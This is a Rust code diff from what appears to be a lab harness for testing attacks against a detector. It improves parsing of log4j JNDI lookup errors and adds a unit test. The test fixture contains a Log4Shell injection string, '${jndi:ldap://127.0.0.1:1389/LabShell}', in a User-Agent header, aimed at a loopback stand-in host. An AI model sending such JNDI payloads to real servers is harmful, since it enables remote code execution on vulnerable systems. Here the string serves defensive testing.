@@ -440,7 +440,7 @@ fn attack_app(
         thread::sleep(SETTLE);
     }
     observe(&mut facts);
-    facts.lookups = notes.try_iter().filter_map(|l| jndi_error(&l)).collect();
+    facts.lookups = jndi_errors(&notes.try_iter().collect::<Vec<_>>());
     Ok(facts)
 }
 
@@ -469,12 +469,25 @@ fn wait_for_rules(detector: &Detector, expected: &[&'static str]) {
     }
 }
 
-/// What log4j says of a failed JNDI lookup, from its status line
+/// What log4j says of each failed JNDI lookup, from its status lines
 /// (`… WARN Error looking up JNDI resource [URL]. EXCEPTION`): `jndi-error URL: EXCEPTION`.
-fn jndi_error(line: &str) -> Option<String> {
-    let (_, rest) = line.split_once("Error looking up JNDI resource [")?;
-    let (url, exception) = rest.split_once("]. ").unwrap_or((rest, ""));
-    Some(format!("jndi-error {url}: {exception}"))
+/// An RMI exception names its cause on the next line (`…; nested exception is:`).
+fn jndi_errors(lines: &[String]) -> Vec<String> {
+    let mut errors = Vec::new();
+    for (i, line) in lines.iter().enumerate() {
+        let Some((_, rest)) = line.split_once("Error looking up JNDI resource [") else {
+            continue;
+        };
+        let (url, exception) = rest.split_once("]. ").unwrap_or((rest, ""));
+        let mut error = format!("jndi-error {url}: {}", exception.trim_end());
+        if error.ends_with("nested exception is:") {
+            if let Some(cause) = lines.get(i + 1) {
+                error = format!("{error} {}", cause.trim());
+            }
+        }
+        errors.push(error);
+    }
+    errors
 }
 
 pub fn rule_of(alert: &Value) -> Option<&str> {
@@ -746,4 +759,34 @@ fn run_benign(run: &Run<'_>, benign: Benign) -> Result<BenignFacts> {
         effect,
         output: tail.into_iter().rev().collect::<Vec<_>>().join(" | "),
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn log4j_status_lines_say_why_a_lookup_failed() {
+        let lines: Vec<String> = [
+            "LOG User-Agent: ${jndi:ldap://127.0.0.1:1389/LabShell}",
+            "2026-12-06 02:11:13,307 HTTP-Dispatcher WARN Error looking up JNDI resource \
+             [ldap://127.0.0.1:1389/LabShell]. javax.naming.CommunicationException: \
+             127.0.0.1:1389 [Root exception is java.net.SocketException: Operation not permitted]",
+            "\tat java.naming/com.sun.jndi.ldap.Connection.<init>(Connection.java:251)",
+            "2026-12-06 02:11:13,307 HTTP-Dispatcher WARN Error looking up JNDI resource \
+             [rmi://127.0.0.1:1099/LabShell]. javax.naming.CommunicationException [Root \
+             exception is java.rmi.ConnectIOException: Exception creating connection to: \
+             127.0.0.1; nested exception is: ",
+            "\tjava.net.SocketException: Operation not permitted]",
+        ]
+        .map(str::to_owned)
+        .to_vec();
+        let errors = jndi_errors(&lines);
+        assert_eq!(errors.len(), 2, "{errors:?}");
+        assert!(errors[0].starts_with("jndi-error ldap://127.0.0.1:1389/LabShell: javax"));
+        assert!(
+            errors.iter().all(|e| e.contains("Operation not permitted")),
+            "{errors:?}"
+        );
+    }
 }
